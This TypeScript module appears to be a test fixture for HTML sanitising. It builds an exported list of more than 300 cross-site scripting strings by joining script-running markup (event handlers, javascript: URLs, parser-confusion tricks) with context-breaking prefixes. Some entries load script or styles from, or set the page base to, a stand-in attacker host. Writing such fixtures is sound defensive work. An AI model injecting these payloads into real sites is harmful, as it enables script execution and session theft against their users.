/** What runs a script where it is taken for markup. */
const RUNS = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></p><img src=x onerror=alert(1)></mtext></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>a</a>',
  '<a href="java&#115;cript:alert(1)">a</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<form action=javascript:alert(1)><button>b</button></form>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<style>@import "//evil.example/x.css"</style>',
  '<template><script>alert(1)</script></template>',
  'javascript:alert(1)',
  'https://a.example/"onmouseover="alert(1)',
  "www.a.example/'onclick='alert(1)",
];

/** What ends what it may stand in, or hides what follows. */
const ENDS = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title></head>',
  '</p></div></article>',
  '</bdi></li></ol>',
  '--><!--',
  ']]>',
  '\u0000',
  '\ufeff\u200b',
  '{{constructor}}',
];

/** More than 300 texts that do no harm only where none of them is taken for anything but text. */
export const HOSTILE_TEXTS: readonly string[] = ENDS.flatMap((end) =>
  RUNS.map((run) => `${end}${run}`),
);
